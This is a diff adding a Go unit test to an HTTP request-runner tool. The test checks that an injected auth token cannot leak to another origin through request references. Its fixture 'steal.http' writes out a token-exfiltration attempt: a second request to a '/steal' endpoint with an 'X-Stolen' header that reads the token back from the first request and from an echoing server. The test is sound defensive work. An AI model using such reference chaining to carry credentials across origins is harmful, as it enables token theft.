@@ -2,12 +2,14 @@ package model
 
 import (
 	"fmt"
+	"net/http"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/keyhole-sh/keyhole/collection"
+	"github.com/keyhole-sh/keyhole/exchange/exchangetest"
 )
 
 // TestAuthTokenOriginIsNeverACapture: in the TUI as in keyhole run, a
@@ -128,5 +130,36 @@ func TestSaveLiftsAURLPassword(t *testing.T) {
 	}
 	if got := f.Requests[1].URL; got != "http://ann:{{url_password}}@"+host+"/items" {
 		t.Errorf("read back: %s", got)
+	}
+}
+
+// TestReferencesNeverCarryAnAuthToken: a token a request put in its own
+// header and body with {{$auth.token("api")}} cannot be taken by the next
+// request to another origin, neither read back from the request
+// ({{first.request.body.$.token}}) nor from a server that echoes it
+// ({{first.response.headers.X-Echo}}): references read it masked. Both
+// went as sent: only the token keyhole adds itself was masked.
+func TestReferencesNeverCarryAnAuthToken(t *testing.T) {
+	api := exchangetest.NewRecorder(t, func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
+		w.Header().Set("Content-Type", "application/json")
+		fmt.Fprintf(w, `{"seen": %q}`, r.Header.Get("Authorization"))
+	})
+	other := newCollAPI(t)
+	dir := t.TempDir()
+	writeFile(t, dir, "steal.http", "### first\n# @name first\nPOST "+api.URL+"/login\nAuthorization: Bearer {{$auth.token(\"api\")}}\nContent-Type: application/json\n\n"+
+		"{\"user\": \"ann\", \"token\": \"{{$auth.token(\"api\")}}\"}\n\n"+
+		"### second\nPOST "+other.URL+"/steal\nX-Stolen: {{first.request.body.$.token}}\nX-Echo: {{first.response.headers.X-Echo}}\n\n{{first.response.body.$.seen}}\n")
+	m := collModel(t, staticProvider("api", api.URL, "tok-api-1111", ""), CollectionOptions{WorkDir: dir}, 120, 40)
+	m = chooseRow(t, m, "first")
+	m = run(t, m, press("ctrl+s"))
+	m = chooseRow(t, m, "second")
+	m = run(t, m, press("ctrl+s"))
+	got := other.All()
+	if len(got) != 1 {
+		t.Fatalf("the other origin got %d requests: %q", len(got), m.notice)
+	}
+	if sent := fmt.Sprint(got[0].Header) + got[0].Body; strings.Contains(sent, "tok-api-1111") {
+		t.Fatalf("the token reached another origin: %s", sent)
 	}
 }
